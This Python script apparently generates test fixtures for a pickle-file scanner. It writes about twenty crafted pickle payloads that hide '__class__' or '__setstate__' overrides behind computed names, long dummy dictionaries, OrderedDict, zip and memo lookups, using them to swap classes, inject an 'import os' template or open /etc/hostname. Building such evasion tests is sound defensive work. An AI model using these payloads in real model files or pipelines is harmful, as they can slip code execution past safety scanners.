# An attribute that stands in for a method, or replaces a class, under a name that is hard to read: computed, behind many
# others, in a dictionary that a call makes, or in one that is changed after it was set.
from pickle_asm import *


def called(module, name, *arguments):
    return stack_global(module, name) + args(*(raw(item) if isinstance(item, bytes) else item for item in arguments)) + REDUCE


def pairs(*items):
    return EMPTY_DICT + MARK + b"".join(item if isinstance(item, bytes) else constant(item) for item in items) + SETITEMS


def state(table):
    """Set as the state of an object, which is then given another one: a __setstate__ of its own is called with that."""
    return BARE + table + BUILD + text("/etc/hostname") + BUILD


def attack(name, code):
    save(name + ".pkl", proto(4) + code + STOP)


BARE = stack_global("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
OPENS = stack_global("dateutil.tz.tz", "tzfile")
NORM = stack_global("scipy.stats._continuous_distns", "norm_gen")
IDENTITY = stack_global("torch.nn.modules.linear", "Identity")
CODE = pairs("_parse_arg_template", "import os")
MANY = [item for i in range(70) for item in (f"a{i}", i)]
OWN, CLASS = text("__setstate__"), text("__class__")


def computed(name):
    return called("builtins", "str", data(name.encode()), "ascii")


def in_order(*items):
    return called("collections", "OrderedDict") + MARK + b"".join(items) + SETITEMS


def behind_many(value):
    return EMPTY_LIST + MARK + b"".join(number(i) for i in range(70)) + value + APPENDS


attack("class_computed_late", BARE + NONE + pairs(*MANY, computed("__class__"), NORM) + TUPLE2 + BUILD + CODE + BUILD)
attack("class_in_order", BARE + NONE + in_order(CLASS, IDENTITY) + TUPLE2 + BUILD)
attack("class_in_order_of_pairs", BARE + NONE + called("collections", "OrderedDict", EMPTY_LIST + CLASS + IDENTITY + TUPLE2 + APPEND) + TUPLE2 + BUILD)
attack("method_late", state(pairs(*MANY, OWN, OPENS)))
attack("method_after_the_same", state(pairs(*["a", 1] * 70, OWN, OPENS)))
attack("method_after_its_name", state(pairs(*MANY, "b", OWN, OWN, OPENS)))
attack("method_computed", state(pairs(computed("__setstate__"), OPENS)))
attack("method_computed_late", state(pairs(*MANY, computed("__setstate__"), OPENS)))
attack("method_by_version", state(pairs(called("torch.torch_version", "TorchVersion", "__setstate__"), OPENS)))
attack("method_by_numpy", state(pairs(called("numpy", "str_", "__setstate__"), OPENS)))
attack("method_in_dict", state(called("builtins", "dict", EMPTY_LIST + OWN + OPENS + TUPLE2 + APPEND)))
attack("method_in_zip", state(called("builtins", "dict", called("builtins", "zip", EMPTY_LIST + OWN + APPEND, EMPTY_LIST + OPENS + APPEND))))
attack("method_in_order", state(in_order(OWN, OPENS)))
attack("method_forgotten", behind_many(pairs(OWN, OPENS) + MEMOIZE) + state(b"h\0") + TUPLE2)
attack("method_set_later", stack_global("numpy.polynomial.polynomial", "Polynomial") + EMPTY_TUPLE + NEWOBJ + MEMOIZE + EMPTY_DICT + MEMOIZE + BUILD
       + b"h\1" + OWN + OPENS + SETITEM + TUPLE2 + b"h\0" + text("/etc/hostname") + BUILD + TUPLE2)

LENT = called("functools", "partial", stack_global("builtins", "print"), "run")
LENDS = stack_global("types", "SimpleNamespace") + EMPTY_TUPLE + NEWOBJ + pairs("replace", LENT) + BUILD
attack("lender_forgotten", behind_many(LENDS + MEMOIZE) + called("uuid", "UUID", b"h\0") + TUPLE2)
attack("lent_forgotten", behind_many(pairs("replace", LENT) + MEMOIZE)
       + called("uuid", "UUID", stack_global("types", "SimpleNamespace") + EMPTY_TUPLE + NEWOBJ + b"h\0" + BUILD) + TUPLE2)
